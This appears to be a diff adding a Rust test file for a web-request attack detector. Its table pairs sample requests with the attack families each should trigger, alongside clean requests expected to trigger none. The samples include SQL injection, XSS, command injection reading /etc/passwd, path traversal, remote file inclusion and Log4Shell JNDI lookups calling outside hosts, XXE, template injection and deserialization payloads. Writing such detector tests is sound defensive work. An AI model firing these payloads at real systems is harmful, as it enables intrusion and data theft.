@@ -1,0 +1,172 @@
+//! One row per family and placement: a request, and the families it must raise (or none).
+
+use std::borrow::Cow;
+
+use rampart_detect::{Detector, EventCtx};
+use rampart_model::{ApiEvent, Severity, Timestamp};
+
+use super::{ContentConfig, ContentInspection, FAMILIES};
+
+struct Req {
+    method: &'static str,
+    path: &'static str,
+    query: &'static str,
+    headers: &'static [(&'static str, &'static str)],
+    body: &'static str,
+    status: u16,
+}
+
+const fn get(path: &'static str, query: &'static str) -> Req {
+    Req { method: "GET", path, query, headers: &[], body: "", status: 200 }
+}
+
+const fn post(path: &'static str, ctype: &'static str, body: &'static str) -> Req {
+    let headers: &'static [(&'static str, &'static str)] = match ctype.as_bytes()[0] {
+        b'j' => &[("content-type", "application/json")],
+        b'x' => &[("content-type", "text/xml")],
+        b'f' => &[("content-type", "application/x-www-form-urlencoded")],
+        _ => &[("content-type", "text/plain")],
+    };
+    Req { method: "POST", path, query: "", headers, body, status: 200 }
+}
+
+const fn with_headers(path: &'static str, headers: &'static [(&'static str, &'static str)]) -> Req {
+    Req { method: "GET", path, query: "", headers, body: "", status: 200 }
+}
+
+fn event(r: &Req) -> ApiEvent<'static> {
+    ApiEvent {
+        ts: Timestamp::from_millis(1_700_000_000_000),
+        client_ip: "203.0.113.7".parse().ok(),
+        method: Cow::Borrowed(r.method),
+        host: Cow::Borrowed("api.example.test"),
+        path: Cow::Borrowed(r.path),
+        query: Cow::Borrowed(r.query),
+        status: r.status,
+        user_agent: Cow::Borrowed("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"),
+        request_headers: r
+            .headers
+            .iter()
+            .map(|(k, v)| (Cow::Borrowed(*k), Cow::Borrowed(*v)))
+            .collect(),
+        request_body: (!r.body.is_empty()).then_some(Cow::Borrowed(r.body)),
+        ..Default::default()
+    }
+}
+
+fn families(r: &Req) -> Vec<String> {
+    let mut d = ContentInspection::new(ContentConfig::default());
+    let ev = event(r);
+    let cx = EventCtx::new(&ev);
+    let mut out = Vec::new();
+    d.observe(&cx, &mut out);
+    let mut fams: Vec<String> = out
+        .iter()
+        .map(|a| {
+            let f = FAMILIES
+                .iter()
+                .find(|f| a.title.starts_with(f.name))
+                .expect("a family title");
+            f.id.to_string()
+        })
+        .collect();
+    fams.sort();
+    fams
+}
+
+#[test]
+fn every_family_and_placement() {
+    let rows: &[(Req, &[&str])] = &[
+        // SQL injection: libinjection, signatures, stacked queries; in every placement.
+        (get("/search", "q=%27%3BSELECT%20*%20FROM%20t%20limit%203--"), &["sqli"]),
+        (get("/items", "id=1%20union%20select%201,2,3"), &["sqli"]),
+        (get("/items", "id=1'%20OR%20'1'%3D'1"), &["sqli"]),
+        (post("/login", "json", r#"{"user": {"name": "admin' or 1=1 -- "}}"#), &["sqli"]),
+        (post("/login", "form", "user=x%27%20or%20sleep(5)%23"), &["sqli"]),
+        (with_headers("/", &[("cookie", "session=1' AND 1=1--")]), &["sqli"]),
+        // XSS, also double-encoded and as JS escapes.
+        (get("/p", "q=%253Cscript%253Ealert(1)%253C/script%253E"), &["xss"]),
+        (post("/c", "json", r#"{"comment": "\u003cimg src=x onerror=alert(1)\u003e"}"#), &["xss"]),
+        (get("/p", "q=%3Csvg%20onload%3Dalert(1)%3E"), &["xss"]),
+        // Command injection.
+        (get("/ping", "host=127.0.0.1%3Bcat%20/etc/passwd"), &["command_injection", "path_traversal"]),
+        (get("/ping", "host=%60id%60"), &["command_injection"]),
+        (post("/run", "form", "cmd=x%7C%20whoami"), &["command_injection"]),
+        // Traversal and file inclusion.
+        (get("/file", "name=..%2F..%2F..%2Fetc%2Fhosts"), &["path_traversal"]),
+        (get("/file", "name=php://filter/convert.base64-encode/resource=index"), &["code_injection", "path_traversal"]),
+        (get("/page", "inc=http://198.51.100.9/shell.txt?"), &["rfi"]),
+        // Log4Shell at the end of an unusual header, and obfuscated.
+        (with_headers("/", &[("x-api-version", "1.0 ${jndi:ldap://198.51.100.9/a}")]), &["log4shell"]),
+        (with_headers("/", &[("x-q", "${${lower:j}${::-n}di:${lower:l}dap://x/a}")]), &["log4shell"]),
+        // Template injection.
+        (get("/hello", "name=%7B%7B7*7%7D%7D"), &["ssti"]),
+        (get("/hello", "name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"), &["ssti"]),
+        // XXE.
+        (post("/soap", "xml", r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#), &["path_traversal", "xxe"]),
+        // NoSQL operators in JSON and brackets.
+        (post("/login", "json", r#"{"user": "admin", "password": {"$ne": null}}"#), &["nosql_injection"]),
+        (get("/login", "user=admin&password%5B%24ne%5D=x"), &["nosql_injection"]),
+        // LDAP.
+        (get("/people", "cn=*)(uid=*))(|(uid=*"), &["ldap_injection"]),
+        // CRLF / header injection and log forging.
+        (get("/r", "next=%0d%0aSet-Cookie:%20a=b"), &["crlf_injection"]),
+        (get("/search", "q=ok%0a127.0.0.1%20-%20admin%20login%20succeeded"), &["crlf_injection"]),
+        // Server-side includes.
+        (get("/p", "q=%3C!--%23exec%20cmd%3D%22ls%22--%3E"), &["ssi"]),
+        // Mail header injection.
+        (post("/contact", "form", "email=a%40b.test%0d%0aBcc:%20victim%40c.test"), &["mail_injection"]),
+        // Serialized objects: a base64 pickle in a cookie, Java, PHP.
+        (with_headers("/", &[("cookie", "prefs=gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==")]), &["deserialization"]),
+        (post("/api", "text", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="), &["deserialization"]),
+        (get("/api", "data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D"), &["deserialization"]),
+        // Prototype pollution.
+        (post("/merge", "json", r#"{"__proto__": {"isAdmin": true}}"#), &["prototype_pollution"]),
+        // GraphQL introspection.
+        (post("/graphql", "json", r#"{"query": "{ __schema { types { name } } }"}"#), &["graphql_abuse"]),
+        // Clean requests in every placement raise nothing.
+        (get("/search", "q=O%27Reilly%20books&page=2"), &[]),
+        (get("/search", "q=select%20your%20plan"), &[]),
+        (get("/api/users/42", ""), &[]),
+        (post("/api/items", "json", r#"{"name": "Tea & biscuits", "price": 3.5, "tags": ["a", "b"]}"#), &[]),
+        (post("/login", "form", "user=alice&password=correct+horse"), &[]),
+        (with_headers("/", &[("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"), ("cookie", "sid=abc123; theme=dark")]), &[]),
+        (post("/graphql", "json", r#"{"query": "query { user(id: 1) { name email } }"}"#), &[]),
+        (get("/docs", "q=how%20to%20use%20cat%20and%20grep"), &[]),
+    ];
+    let mut failures = Vec::new();
+    for (req, want) in rows {
+        let got = families(req);
+        if got != *want {
+            failures.push(format!("{} {}?{} {:?}: got {got:?}, want {want:?}", req.method, req.path, req.query, req.body));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn every_family_is_tested_and_ids_are_unique() {
+    let mut ids: Vec<&str> = FAMILIES.iter().map(|f| f.id).collect();
+    ids.sort();
+    let n = ids.len();
+    ids.dedup();
+    assert_eq!(ids.len(), n, "duplicate family id");
+}
+
+#[test]
+fn severity_follows_the_answer_and_the_alert_says_where() {
+    let mut r = get("/ping", "host=%60id%60");
+    let mut d = ContentInspection::new(ContentConfig::default());
+    for (status, want) in [(200, Severity::Critical), (403, Severity::Medium)] {
+        r.status = status;
+        let mut ev = event(&r);
+        ev.client_ip = format!("203.0.113.{}", status % 250).parse().ok();
+        let cx = EventCtx::new(&ev);
+        let mut out = Vec::new();
+        d.observe(&cx, &mut out);
+        assert_eq!(out.len(), 1, "{status}");
+        assert_eq!(out[0].severity, want, "{status}");
+        assert!(out[0].title.contains("query parameter `host`"), "{}", out[0].title);
+        assert!(out[0].description.contains("`id`"), "{}", out[0].description);
+    }
+}
